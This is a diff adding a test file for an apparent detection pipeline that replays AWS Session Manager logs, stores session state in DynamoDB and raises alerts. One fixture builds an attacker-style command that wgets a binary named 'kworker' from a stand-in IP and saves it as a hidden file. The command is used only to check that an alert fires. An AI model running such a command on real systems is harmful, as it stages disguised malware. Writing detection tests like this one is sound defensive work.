@@ -1,0 +1,207 @@
+import { randomBytes } from 'node:crypto';
+import { readFileSync } from 'node:fs';
+import { join } from 'node:path';
+import { gunzipSync } from 'node:zlib';
+import { GetItemCommand } from '@aws-sdk/client-dynamodb';
+import { afterAll, beforeAll, describe, expect, it } from 'vitest';
+import { createEngine, type Engine } from '../../../detectors/index.js';
+import type { Alert } from '../../../forwarder/alerts/alert.js';
+import { buildAlert } from '../../../forwarder/alerts/build.js';
+import { type SessionGroup, sessionEventsOf } from '../../../forwarder/lambda/subscription.js';
+import { processSessionEvents, stateKey } from '../../../forwarder/stream/process-session.js';
+import type { ReplayedCommand, SessionEvent } from '../../../forwarder/stream/session-replay.js';
+import {
+  DynamoDbSessionStateStore,
+  type SessionStateItem,
+  type SessionStateStore,
+  StateTooLargeError,
+} from '../../../forwarder/stream/state-store.js';
+import type { SubscriptionPayload } from '../../../forwarder/transcript/log-events.js';
+import { fixturesDir, sessionsDir } from '../../helpers/paths.js';
+import { startDynamoDb } from '../sinks/helpers/emulators.js';
+
+/**
+ * The streaming path's per-session state in DynamoDB (dynalite): conditional writes keep concurrent and retried
+ * deliveries from losing or doubling anything, and a command cut across two log events is still whole.
+ */
+let db: Awaited<ReturnType<typeof startDynamoDb>>;
+let engine: Engine;
+let table = 0;
+
+beforeAll(async () => {
+  db = await startDynamoDb();
+  engine = createEngine({
+    iocTexts: [{ name: 'iocs.txt', text: readFileSync(join(fixturesDir, 'iocs.txt'), 'utf8') }],
+  }).engine;
+});
+
+afterAll(async () => {
+  await db?.close();
+});
+
+async function newStore(now = () => Date.parse('2026-10-06T23:00:00Z')) {
+  const name = `state-${++table}`;
+  await db.createTable(name);
+  return { store: new DynamoDbSessionStateStore(db.client, name, 7 * 86_400, now), name };
+}
+
+/** The stream groups of a fixture session's subscription deliveries, one log event a delivery. */
+function streamEvents(sid: string): SessionEvent[] {
+  const deliveries = JSON.parse(readFileSync(join(sessionsDir, `${sid}.subscription.json`), 'utf8')) as {
+    awslogs: { data: string };
+  }[];
+  return deliveries.flatMap((d) => {
+    const payload = JSON.parse(gunzipSync(Buffer.from(d.awslogs.data, 'base64')).toString()) as SubscriptionPayload;
+    return sessionEventsOf(payload, () => {}).flatMap((g: SessionGroup) => (g.kind === 'stream' ? g.events : []));
+  });
+}
+
+/** Records what reaches delivery: every alert, and each id only once or the test fails. */
+function recordingDeps(store: SessionStateStore) {
+  const delivered: Alert[] = [];
+  const deps = {
+    engine,
+    states: store,
+    alertsFor: async (commands: readonly ReplayedCommand[]) =>
+      commands.flatMap((c) => c.detections.map((d) => buildAlert(d, c.record, c.session, null))),
+    deliver: async (alerts: readonly Alert[]) => {
+      delivered.push(...alerts);
+    },
+  };
+  return { deps, delivered };
+}
+
+const idsOf = (alerts: Alert[]) => alerts.map((a) => a.id).sort();
+const MALLORY = 'mallory-09f8e7d6c5b4a3921';
+const SPLIT = 'mallory-0a1b2c3d4e5f60718';
+
+describe('DynamoDbSessionStateStore', () => {
+  const item = (n: number): SessionStateItem => ({
+    replay: {
+      kind: 'stream',
+      sessionId: MALLORY,
+      base: null,
+      buffer: [],
+      foldedIds: [`e${n}`],
+      foldedUpTo: null,
+      ended: false,
+    },
+    alerted: [],
+    outbox: [],
+  });
+
+  it('writes only over the version it read, with a TTL, gzipped', async () => {
+    const { store, name } = await newStore();
+    expect(await store.put('s', item(1), null)).toBe(true);
+    expect(await store.put('s', item(2), null)).toBe(false); // someone created it first
+    expect(await store.put('s', item(2), 1)).toBe(true);
+    expect(await store.put('s', item(3), 1)).toBe(false); // stale: version 2 is stored
+    const got = await store.get('s');
+    expect(got).toEqual({ item: item(2), version: 2 });
+    const raw = await db.client.send(new GetItemCommand({ TableName: name, Key: { pk: { S: 's' } } }));
+    expect(Number(raw.Item?.expiresAt?.N)).toBe(Date.parse('2026-10-06T23:00:00Z') / 1000 + 7 * 86_400);
+    expect(raw.Item?.state?.B?.[0]).toBe(0x1f); // gzip
+  });
+
+  it('refuses a state DynamoDB could not hold', async () => {
+    const { store } = await newStore();
+    const big = item(1);
+    // random text does not compress: well over 350 KB gzipped
+    big.replay.foldedIds = [randomBytes(600 * 1024).toString('base64')];
+    await expect(store.put('s', big, null)).rejects.toBeInstanceOf(StateTooLargeError);
+  });
+});
+
+describe('processSessionEvents with the state in DynamoDB', () => {
+  it('concurrent deliveries of one session lose nothing and double nothing', async () => {
+    const events = streamEvents(MALLORY);
+    const sequential = await newStore();
+    const inOrder = recordingDeps(sequential.store);
+    for (const e of events) await processSessionEvents('stream', MALLORY, [e], inOrder.deps);
+    expect(inOrder.delivered.length).toBeGreaterThan(0);
+
+    const concurrent = await newStore();
+    const racing = recordingDeps(concurrent.store);
+    // every event twice, all at once: the conditional writes make the losers redo their work on the newer state
+    await Promise.all([...events, ...events].map((e) => processSessionEvents('stream', MALLORY, [e], racing.deps)));
+    expect(idsOf(racing.delivered)).toEqual(idsOf(inOrder.delivered));
+    const saved = await concurrent.store.get(stateKey('stream', MALLORY));
+    expect(saved?.item.outbox).toEqual([]);
+    expect(new Set(saved?.item.alerted)).toEqual(new Set(idsOf(inOrder.delivered)));
+  });
+
+  it('a crash between saving and delivering loses no alert: the next invocation delivers the outbox', async () => {
+    const events = streamEvents(MALLORY);
+    const { store } = await newStore();
+    const { deps, delivered } = recordingDeps(store);
+    let crashes = 1;
+    const crashing = {
+      ...deps,
+      deliver: async (alerts: readonly Alert[]) => {
+        if (crashes-- > 0) throw new Error('Task timed out after 300.00 seconds');
+        await deps.deliver(alerts);
+      },
+    };
+    await expect(processSessionEvents('stream', MALLORY, events, crashing)).rejects.toThrow(/timed out/);
+    expect(delivered).toEqual([]);
+    // Lambda retries the same delivery
+    await processSessionEvents('stream', MALLORY, events, crashing);
+    const reference = recordingDeps((await newStore()).store);
+    await processSessionEvents('stream', MALLORY, events, reference.deps);
+    expect(idsOf(delivered)).toEqual(idsOf(reference.delivered));
+  });
+
+  it('joins a command line the agent cut across two log events, in either delivery order', async () => {
+    // the agent reads at most 33,000 bytes a line: a longer one arrives in pieces, each alone in its event
+    const cut = 33_000;
+    const head = "sh-5.2$ echo '";
+    const tail = "' >/dev/null; wget -q http://203.0.11";
+    const line = `${head}${'x'.repeat(cut - head.length - tail.length)}${tail}3.66/x86_64/kworker -O .kw`;
+    const command = line.slice('sh-5.2$ '.length);
+    const message = (eventTime: string, sessionData: string[]) =>
+      JSON.stringify({
+        eventVersion: '1.0',
+        eventTime,
+        awsRegion: 'us-east-1',
+        target: { id: 'i-0f1e2d3c4b5a69788' },
+        userIdentity: { arn: 'arn:aws:iam::444455556666:user/mallory' },
+        runAsUser: 'ssm-user',
+        sessionId: SPLIT,
+        sessionData,
+      });
+    const payload: SubscriptionPayload = {
+      messageType: 'DATA_MESSAGE',
+      owner: '444455556666',
+      logGroup: 'session_manager_logs',
+      logStream: SPLIT,
+      logEvents: [
+        {
+          id: '1',
+          timestamp: Date.parse('2026-10-06T22:50:00Z'),
+          message: message('2026-10-06T22:50:00Z', [line.slice(0, cut)]),
+        },
+        {
+          id: '2',
+          timestamp: Date.parse('2026-10-06T22:50:01Z'),
+          message: message('2026-10-06T22:50:01Z', [line.slice(cut), 'sh-5.2$ exit', 'exit']),
+        },
+      ],
+    };
+    const [first, second] = sessionEventsOf(payload, () => {})[0]!.events;
+    expect(first!.endsMidLine).toBe(true);
+
+    for (const order of [
+      [first!, second!],
+      [second!, first!],
+    ]) {
+      const { deps, delivered } = recordingDeps((await newStore()).store);
+      const records: string[] = [];
+      for (const e of order)
+        records.push(...(await processSessionEvents('stream', SPLIT, [e], deps)).records.map((r) => r.command));
+      expect(records[0]).toBe(command);
+      expect(delivered.length).toBeGreaterThan(0);
+      for (const a of delivered) expect(a.command).toBe(command);
+      expect(delivered.some((a) => a.evidence.some((ev) => ev.value.includes('203.0.113.66')))).toBe(true);
+    }
+  });
+});
